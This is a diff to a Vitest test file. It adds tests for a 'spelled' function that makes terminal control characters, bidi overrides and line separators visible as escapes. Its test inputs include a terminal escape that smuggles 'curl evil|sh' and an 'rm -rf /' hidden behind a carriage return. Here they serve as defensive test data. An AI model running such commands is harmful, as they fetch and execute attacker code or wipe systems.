@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest'
-import { clean, cleanJson, cleanLine } from './clean.ts'
+import { clean, cleanJson, cleanLine, spelled } from './clean.ts'
 
 describe('clean', () => {
   test.each([
@@ -52,4 +52,21 @@ test('clean JSON is the same value without anything that acts', () => {
   const value = { text: '\u001b[31m\u009b1m\u202e\u2028\u007f"' }
   expect(cleanJson(value)).not.toMatch(/[\p{Cc}\u202e\u2028]/u)
   expect(JSON.parse(cleanJson(value))).toEqual(value)
+})
+
+describe('spelled', () => {
+  test.each([
+    ['what stands between two controls', 'a=\u001b];curl evil|sh;#\u0007', 'a=\\u{1b}];curl evil|sh;#\\u{7}'],
+    ['a carriage return that would overwrite', 'rm -rf /\rls', 'rm -rf /\\u{d}ls'],
+    ['text turned around', 'a\u202eb', 'a\\u{202e}b'],
+    ['tags', 'a\u{e0041}', 'a\\u{e0041}'],
+    ['a line separator', 'a\u2028b', 'a\\u{2028}b'],
+  ])('keeps %s, as it is', (_what, hostile, shown) => {
+    expect(spelled(hostile)).toBe(shown)
+    expect(clean(shown)).toBe(shown)
+  })
+
+  test('leaves ordinary text alone, in any language and with any line ends', () => {
+    expect(spelled('tab\tGrüße, 日本語 👩‍👩‍👧\r\nnext')).toBe('tab\tGrüße, 日本語 👩‍👩‍👧\nnext')
+  })
 })
